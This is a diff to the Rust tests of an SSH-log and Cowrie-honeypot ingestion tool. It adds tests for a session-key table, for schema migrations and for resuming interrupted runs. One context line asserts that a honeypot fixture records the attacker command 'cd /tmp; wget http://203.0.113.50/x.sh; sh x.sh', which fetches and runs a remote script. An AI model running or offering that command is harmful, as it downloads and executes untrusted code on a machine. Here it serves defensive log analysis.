@@ -335,10 +335,23 @@ fn sigkill_in_the_middle_of_a_large_file_then_ingest_again_equals_a_clean_run() 
             partial < want.len(),
             "the kill came too late to test anything"
         );
+        // Killed before the end of its run: its session keys were not written.
+        assert!(sessions_unkeyed(&Db::Lite(&db)) > 0);
         ingest(&db, &[&log]);
         let got = events(&db);
         assert_eq!(got.len(), want.len());
         assert!(got == want, "resumed store differs from a clean run");
+        let sessions = |p: &Path| {
+            store::open(&Location::Sqlite(p.to_path_buf()))
+                .unwrap()
+                .sessions(&Filter::default())
+                .unwrap()
+        };
+        assert!(
+            sessions(&db) == sessions(&clean),
+            "resumed sessions differ from a clean run's"
+        );
+        assert_keys_complete(&Db::Lite(&db));
         assert_eq!(
             stats_db(db.to_str().unwrap(), &[]),
             stats_db(clean.to_str().unwrap(), &[])
@@ -547,7 +560,7 @@ fn pg_fresh(url: &str) -> Box<dyn Store> {
         panic!("SSHMAP_TEST_PG={url} is set but the server is unreachable: {e}")
     });
     c.batch_execute(
-        "DROP TABLE IF EXISTS events, rollup_minute, rollup_hour_ip, sessions, inputs, sshmap_schema CASCADE",
+        "DROP TABLE IF EXISTS events, rollup_minute, rollup_hour_ip, sessions, session_keys, inputs, sshmap_schema CASCADE",
     )
     .unwrap();
     store::open(&Location::Postgres(url.to_string())).expect("open postgres store")
@@ -831,6 +844,93 @@ fn sqlite_ids(db: &Path) -> Vec<i64> {
         .unwrap()
 }
 
+/// A store as the tests reach it behind sshmap's back.
+enum Db<'a> {
+    Lite(&'a Path),
+    Pg(&'a str),
+}
+
+impl Db<'_> {
+    fn exec(&self, sql: &str) {
+        match self {
+            Db::Lite(p) => rusqlite::Connection::open(p)
+                .unwrap()
+                .execute_batch(sql)
+                .unwrap(),
+            Db::Pg(url) => postgres::Client::connect(url, postgres::NoTls)
+                .unwrap()
+                .batch_execute(sql)
+                .unwrap(),
+        }
+    }
+
+    fn int(&self, sql: &str) -> i64 {
+        match self {
+            Db::Lite(p) => rusqlite::Connection::open(p)
+                .unwrap()
+                .query_row(sql, [], |r| r.get(0))
+                .unwrap(),
+            Db::Pg(url) => postgres::Client::connect(url, postgres::NoTls)
+                .unwrap()
+                .query_one(sql, &[])
+                .unwrap()
+                .get(0),
+        }
+    }
+
+    fn has_index(&self, name: &str) -> bool {
+        let sql = match self {
+            Db::Lite(_) => format!("SELECT count(*) FROM sqlite_master WHERE name = '{name}'"),
+            Db::Pg(_) => format!("SELECT count(*) FROM pg_indexes WHERE indexname = '{name}'"),
+        };
+        self.int(&sql) > 0
+    }
+
+    /// Back to schema 7: the `sessions_key` index, no key table.
+    fn to_schema_7(&self) {
+        self.exec(match self {
+            Db::Lite(_) => "DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; \
+                CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 7;",
+            Db::Pg(_) => "DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; \
+                CREATE INDEX sessions_key ON sessions (pid, host, id); UPDATE sshmap_schema SET version = 7;",
+        });
+    }
+}
+
+/// Stored sessions (with a pid: the others are never looked up) above their
+/// input's `keys_to`: what the key table lacks.
+fn sessions_unkeyed(db: &Db) -> i64 {
+    db.int(
+        "SELECT count(*) FROM sessions s WHERE pid IS NOT NULL
+         AND id > (SELECT keys_to FROM inputs i WHERE i.id = s.input)",
+    )
+}
+
+/// The key table is complete: each session with a pid has its key row, each
+/// input's `keys_to` is its latest session, and schema 6's index is gone.
+fn assert_keys_complete(db: &Db) {
+    assert!(db.int("SELECT count(*) FROM sessions WHERE pid IS NOT NULL") > 0);
+    assert_eq!(
+        db.int(
+            "SELECT count(*) FROM sessions s WHERE pid IS NOT NULL AND NOT EXISTS
+             (SELECT 1 FROM session_keys k WHERE k.input = s.input AND k.pid = s.pid
+              AND k.host = coalesce(s.host, '') AND k.id = s.id)"
+        ),
+        0,
+        "sessions without their key row"
+    );
+    assert_eq!(
+        db.int(
+            "SELECT count(*) FROM inputs i
+             WHERE keys_to <> coalesce((SELECT max(id) FROM sessions s WHERE s.input = i.id), 0)"
+        ),
+        0,
+        "keys_to is not the input's latest session"
+    );
+    assert_eq!(sessions_unkeyed(db), 0);
+    assert!(!db.has_index("sessions_key"), "schema 6's index is left");
+}
+
 #[test]
 fn sessions_table_equals_the_grouping_of_all_events_through_appends_and_rotation() {
     let dir = tempfile::tempdir().unwrap();
@@ -869,13 +969,14 @@ fn sessions_table_equals_the_grouping_of_all_events_through_appends_and_rotation
     // A database from before the sessions table (schema 1) is migrated: its
     // events are grouped when it is opened.
     let c = rusqlite::Connection::open(&db).unwrap();
-    c.execute_batch("DROP TABLE sessions; ALTER TABLE events DROP COLUMN session; ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
+    c.execute_batch("DROP TABLE sessions; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; ALTER TABLE events DROP COLUMN session; ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
     drop(c);
     let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
     assert!(
         s.sessions(&Filter::default()).unwrap() == want,
         "migrated sessions differ"
     );
+    assert_keys_complete(&Db::Lite(&db));
     // ... and ingest goes on from there.
     let live = dir.path().join("log/auth.log");
     append(&live, &split(&sample(), 200).0);
@@ -892,6 +993,7 @@ fn sessions_table_equals_the_grouping_of_all_events_through_appends_and_rotation
     let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
     let evs = events_with_ids(&mut s, sqlite_ids(&db));
     assert!(s.sessions(&Filter::default()).unwrap() == reference_sessions(&evs));
+    assert_keys_complete(&Db::Lite(&db));
 }
 
 #[test]
@@ -928,13 +1030,14 @@ fn postgres_sessions_table_equals_the_grouping_of_all_events() {
     drop(s);
     // Migration from schema 1.
     let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
-    c.batch_execute("DROP TABLE sessions; ALTER TABLE events DROP COLUMN session, DROP COLUMN password, DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor, DROP COLUMN head_hash, DROP COLUMN head_len; DROP INDEX events_logins; UPDATE sshmap_schema SET version = 1;")
+    c.batch_execute("DROP TABLE sessions, session_keys; ALTER TABLE events DROP COLUMN session, DROP COLUMN password, DROP COLUMN command; ALTER TABLE inputs DROP COLUMN keys_to, DROP COLUMN cursor, DROP COLUMN head_hash, DROP COLUMN head_len; DROP INDEX events_logins; UPDATE sshmap_schema SET version = 1;")
         .unwrap();
     let mut s = store::open(&Location::Postgres(url.clone())).unwrap();
     assert!(
         s.sessions(&Filter::default()).unwrap() == want,
         "migrated sessions differ"
     );
+    assert_keys_complete(&Db::Pg(&url));
 }
 
 /// A dense log of short connections (three lines each, 100 lines a second
@@ -1031,7 +1134,23 @@ fn reingest_continues_stored_sessions(db: &str, ids: &dyn Fn() -> Vec<i64>, dir:
         cp.keep_line
     );
     assert!(cp.warm_line > 20_010, "{}", cp.warm_line);
-    let evs = events_with_ids(&mut s, ids());
+    assert_reingested_sessions(&mut s, ids);
+    assert_keys_complete(&db_of(db));
+}
+
+fn db_of(db: &str) -> Db<'_> {
+    if db.starts_with("postgres") {
+        Db::Pg(db)
+    } else {
+        Db::Lite(Path::new(db))
+    }
+}
+
+/// The sessions after `reingest_logs` (both parts) went in: those of the
+/// connections its second part continues, and all of them equal to the
+/// grouping of the stored events (none twice).
+fn assert_reingested_sessions(s: &mut Box<dyn Store>, ids: &dyn Fn() -> Vec<i64>) {
+    let evs = events_with_ids(s, ids());
     let want = reference_sessions(&evs);
     let got = s.sessions(&Filter::default()).unwrap();
     let of = |pid: i64| -> Vec<&Session> { got.iter().filter(|x| x.pid == Some(pid)).collect() };
@@ -1084,6 +1203,105 @@ fn reingest_continues_stored_sessions_postgres() {
     reingest_continues_stored_sessions(&url, &ids, dir.path());
 }
 
+/// How the first run of [`reingest_after_a_stopped_run`] leaves the store.
+#[derive(Clone, Copy, Debug)]
+enum Left {
+    /// Killed after its last commit, before it wrote its session keys.
+    Stopped,
+    /// Complete, but on schema 7: the `sessions_key` index, no key table.
+    Schema7,
+}
+
+/// A first run reads the first half of `reingest_logs` and stops before it
+/// writes its session keys (or its store is from before the key table); then
+/// the rest of the log is appended, with the lines dated back, and ingested:
+/// the stored sessions are continued from what the key table lacks (or from
+/// what the migration filled it with), none is made twice, and the key table
+/// is complete afterwards.
+fn reingest_after_a_stopped_run(db: &str, ids: &dyn Fn() -> Vec<i64>, dir: &Path, left: Left) {
+    let (first, more) = reingest_logs();
+    let (a, b) = split(&first, 30_000);
+    let log = dir.join("auth.log");
+    let go = || {
+        ok(run(&[
+            "ingest",
+            "-q",
+            "--tz",
+            "UTC",
+            "--db",
+            db,
+            log.to_str().unwrap(),
+        ]))
+    };
+    write(&log, &a);
+    go();
+    let d = db_of(db);
+    // A run of a new input fills its key table at its end, not before.
+    assert_keys_complete(&d);
+    match left {
+        Left::Stopped => {
+            d.exec("DELETE FROM session_keys; UPDATE inputs SET keys_to = 0;");
+            assert!(sessions_unkeyed(&d) > 10_000);
+        }
+        Left::Schema7 => d.to_schema_7(),
+    }
+    append(&log, &b);
+    append(&log, &more);
+    go();
+    let loc = if db.starts_with("postgres") {
+        Location::Postgres(db.to_string())
+    } else {
+        Location::Sqlite(db.into())
+    };
+    let mut s = store::open(&loc).unwrap();
+    assert_reingested_sessions(&mut s, ids);
+    assert_keys_complete(&d);
+    drop(s);
+    if let Left::Stopped = left {
+        // Killed after its last commit: the next run, although the input is
+        // up to date (it commits nothing), fills the key table.
+        d.exec("DELETE FROM session_keys; UPDATE inputs SET keys_to = 0;");
+        let version = d.int("SELECT max(version) FROM inputs");
+        go();
+        assert_eq!(
+            d.int("SELECT max(version) FROM inputs"),
+            version,
+            "nothing committed"
+        );
+        assert_keys_complete(&d);
+    }
+}
+
+#[test]
+fn reingest_after_a_run_stopped_before_its_session_keys_sqlite() {
+    for left in [Left::Stopped, Left::Schema7] {
+        let dir = tempfile::tempdir().unwrap();
+        let db = dir.path().join("s.db");
+        reingest_after_a_stopped_run(db.to_str().unwrap(), &|| sqlite_ids(&db), dir.path(), left);
+    }
+}
+
+#[test]
+fn reingest_after_a_run_stopped_before_its_session_keys_postgres() {
+    let Some(url) = pg_url() else { return };
+    let _guard = crate::store::PG_LOCK
+        .lock()
+        .unwrap_or_else(|e| e.into_inner());
+    let ids = || -> Vec<i64> {
+        let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
+        c.query("SELECT id FROM events ORDER BY id", &[])
+            .unwrap()
+            .iter()
+            .map(|r| r.get(0))
+            .collect()
+    };
+    for left in [Left::Stopped, Left::Schema7] {
+        drop(pg_fresh(&url));
+        let dir = tempfile::tempdir().unwrap();
+        reingest_after_a_stopped_run(&url, &ids, dir.path(), left);
+    }
+}
+
 /// The fixture's Cowrie passwords and commands, as `(line, password, command)`.
 fn cowrie_details(evs: &[Event]) -> Vec<(u64, Option<String>, Option<String>)> {
     evs.iter()
@@ -1116,7 +1334,7 @@ fn sqlite_keeps_cowrie_passwords_and_commands_and_migrates_an_older_store() {
         .any(|d| d.2.as_deref() == Some("cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh")));
     // Back to schema 6: no such columns.
     let c = rusqlite::Connection::open(&db).unwrap();
-    c.execute_batch("ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; PRAGMA user_version = 6;")
+    c.execute_batch("ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; CREATE INDEX sessions_key ON sessions(pid, host, id); PRAGMA user_version = 6;")
         .unwrap();
     drop(c);
     let old = events(&db);
@@ -1166,7 +1384,7 @@ fn postgres_keeps_cowrie_passwords_and_commands_like_sqlite() {
     // Migrated from the schema before the columns (version 6).
     drop(s2);
     let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
-    c.batch_execute("ALTER TABLE events DROP COLUMN password, DROP COLUMN command; UPDATE sshmap_schema SET version = 6;")
+    c.batch_execute("ALTER TABLE events DROP COLUMN password, DROP COLUMN command; DROP TABLE session_keys; ALTER TABLE inputs DROP COLUMN keys_to; CREATE INDEX sessions_key ON sessions (pid, host, id); UPDATE sshmap_schema SET version = 6;")
         .unwrap();
     let mut s2 = store::open(&Location::Postgres(url.clone())).unwrap();
     let migrated = scan(&mut s2);
